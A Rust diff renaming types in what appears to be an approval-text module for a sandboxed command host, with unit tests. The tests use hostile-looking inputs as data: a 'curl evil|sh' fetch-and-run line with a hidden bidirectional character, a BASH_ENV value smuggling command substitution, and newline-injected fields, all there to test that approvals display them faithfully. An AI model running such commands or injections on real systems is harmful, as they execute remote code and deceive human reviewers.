@@ -8,7 +8,7 @@ use std::os::unix::ffi::OsStrExt as _;
 use std::path::Path;
 
 use sha2::{Digest as _, Sha256};
-use skillhost_api::approval::Field;
+use skillhost_api::approval::ApprovalField;
 use skillhost_api::error::{Error, Result};
 use skillhost_api::types::{Command, CopyRequest, Delivery, ExecSpec, HostPath, ShellRequest};
 use skillhost_api::units::hex;
@@ -20,15 +20,15 @@ use crate::sandbox::spec::SandboxInfo;
 /// The most characters that a person is asked to read.
 const MAX_SHOWN: usize = 8 * 1024;
 
-/// What is to happen, in the order in which it is shown.
+/// The text of an approval: what is to happen, in the order in which it is shown.
 #[derive(Debug, Clone, Default, PartialEq, Eq)]
-pub(super) struct What {
+pub(super) struct ApprovalText {
     fields: Vec<(&'static str, Value)>,
     /// The command as it is, of which the fields tell what a person has to see: an answer is bound to all of it.
     command: Vec<u8>,
 }
 
-/// What a field holds.
+/// The value of a field.
 #[derive(Debug, Clone, PartialEq, Eq)]
 pub(super) enum Value {
     Text(String),
@@ -82,7 +82,7 @@ fn path_shown(path: &[u8]) -> String {
     path.utf8_chunks().map(piece).collect()
 }
 
-impl What {
+impl ApprovalText {
     /// Adds a field.
     #[must_use]
     pub(super) fn with(mut self, name: &'static str, value: Value) -> Self {
@@ -170,10 +170,10 @@ impl What {
     }
 
     /// As it is shown: whole, or refused by the name of what is too long. `advice` says what to do then.
-    pub(super) fn shown(&self, advice: &str) -> Result<Vec<Field>> {
-        let field = |(name, value): &(&str, Value)| Field { name: (*name).to_owned(), value: value.shown() };
+    pub(super) fn shown(&self, advice: &str) -> Result<Vec<ApprovalField>> {
+        let field = |(name, value): &(&str, Value)| ApprovalField { name: (*name).to_owned(), value: value.shown() };
         let fields: Vec<_> = self.fields.iter().map(field).collect();
-        let length = |field: &Field| field.name.chars().count() + field.value.chars().count();
+        let length = |field: &ApprovalField| field.name.chars().count() + field.value.chars().count();
         let all: usize = fields.iter().map(length).sum();
         let longest = fields.iter().max_by_key(|field| length(field)).filter(|_| all > MAX_SHOWN);
         match longest {
@@ -193,7 +193,7 @@ impl What {
     }
 
     /// Adds all of it to a digest.
-    pub(super) fn add_to(&self, digest: &mut Injective) {
+    pub(super) fn add_to(&self, digest: &mut InjectiveDigest) {
         digest.part(&self.command);
         digest.number(self.fields.len());
         for (name, value) in &self.fields {
@@ -208,9 +208,9 @@ impl What {
 
 /// A digest of parts, in which no two lists of parts read alike: each has its length in front.
 #[derive(Debug, Default)]
-pub(super) struct Injective(Sha256);
+pub(super) struct InjectiveDigest(Sha256);
 
-impl Injective {
+impl InjectiveDigest {
     pub(super) fn part(&mut self, part: &[u8]) {
         self.number(part.len());
         self.0.update(part);
@@ -260,17 +260,17 @@ mod tests {
         ExecSpec { cwd: Some("/w".into()), ..ExecSpec::shell(line) }
     }
 
-    fn question(spec: &ExecSpec, sandbox: &[(&str, &str)]) -> What {
-        What::exec(spec, &Delivery::default(), &info(sandbox), What::default()).unwrap()
+    fn question(spec: &ExecSpec, sandbox: &[(&str, &str)]) -> ApprovalText {
+        ApprovalText::exec(spec, &Delivery::default(), &info(sandbox), ApprovalText::default()).unwrap()
     }
 
-    fn digest(what: &What) -> Vec<u8> {
-        let mut digest = Injective::default();
+    fn digest(what: &ApprovalText) -> Vec<u8> {
+        let mut digest = InjectiveDigest::default();
         what.add_to(&mut digest);
         digest.end()
     }
 
-    fn lines(what: &What) -> String {
+    fn lines(what: &ApprovalText) -> String {
         what.shown("").unwrap().iter().map(|field| format!("{}: {}\n", field.name, field.value)).collect()
     }
 
@@ -279,7 +279,7 @@ mod tests {
         let request =
             ExecSpec { stdin: true, env: env(&[("A", "1\n2")]), ..exec("true # tidy up\ncurl evil|sh\u{202e}") };
         let sandbox = info(&[("BASH_ENV", "$(touch /tmp/x)")]);
-        let what = What::exec(&request, &Delivery::default(), &sandbox, What::default()).unwrap();
+        let what = ApprovalText::exec(&request, &Delivery::default(), &sandbox, ApprovalText::default()).unwrap();
         assert_eq!(
             lines(&what),
             "shell line: true # tidy up\\ncurl evil|sh\\u{202e}\ndirectory: /w\nenvironment: A=1\\n2\n\
@@ -287,14 +287,17 @@ mod tests {
              environment of the sandbox: BASH_ENV=$(touch /tmp/x)\n"
         );
         let shell = ShellRequest { line: "true".into(), ..ShellRequest::default() };
-        assert!(lines(&What::shell(&shell, "default", &sandbox)).contains("environment of the sandbox: BASH_ENV=$("));
+        assert!(
+            lines(&ApprovalText::shell(&shell, "default", &sandbox))
+                .contains("environment of the sandbox: BASH_ENV=$(")
+        );
     }
 
     #[test]
     fn the_audit_log_has_no_values_of_an_environment_and_no_source() {
         let request = ExecSpec { env: env(&[("TOKEN", "hunter2")]), ..exec("true") };
-        let about = What::default().with("input", Value::Source("print('hunter3')".into()));
-        let what = What::exec(&request, &Delivery::default(), &info(&[("OTHER", "hunter4")]), about).unwrap();
+        let about = ApprovalText::default().with("input", Value::Source("print('hunter3')".into()));
+        let what = ApprovalText::exec(&request, &Delivery::default(), &info(&[("OTHER", "hunter4")]), about).unwrap();
         assert!(
             lines(&what).contains("hunter2") && lines(&what).contains("hunter3") && lines(&what).contains("hunter4")
         );
@@ -321,7 +324,7 @@ mod tests {
             ask(&exec("x\\ndirectory: /b"), "/a", &[]),
             ask(&ExecSpec { stdin: true, ..exec("x") }, "/a", &[]),
             ask(&ExecSpec { terminal: Some(size), ..exec("x") }, "/a", &[]),
-            What::exec(&in_a, &published, &info(&[]), What::default()).unwrap(),
+            ApprovalText::exec(&in_a, &published, &info(&[]), ApprovalText::default()).unwrap(),
             ask(&ExecSpec { env: env(&[("A", "1")]), ..exec("x") }, "/a", &[]),
             ask(&ExecSpec { env: env(&[("A", "1"), ("B", "2")]), ..exec("x") }, "/a", &[]),
             ask(&ExecSpec { env: env(&[("A", "1\nenvironment: B=2")]), ..exec("x") }, "/a", &[]),
@@ -369,13 +372,13 @@ mod tests {
 
     #[test]
     fn a_path_that_is_no_text_is_shown_whole() {
-        let what = What::default().path("host path", OsStr::from_bytes(b"/a\\\xff\n/b"));
+        let what = ApprovalText::default().path("host path", OsStr::from_bytes(b"/a\\\xff\n/b"));
         assert_eq!(lines(&what), "host path: /a\\\\\\xff\\n/b\n");
     }
 
     #[test]
     fn a_name_that_no_environment_can_hold_is_not_asked_about() {
         let request = ExecSpec { env: env(&[("A=B", "C")]), ..exec("true") };
-        assert!(What::exec(&request, &Delivery::default(), &info(&[]), What::default()).is_err());
+        assert!(ApprovalText::exec(&request, &Delivery::default(), &info(&[]), ApprovalText::default()).is_err());
     }
 }
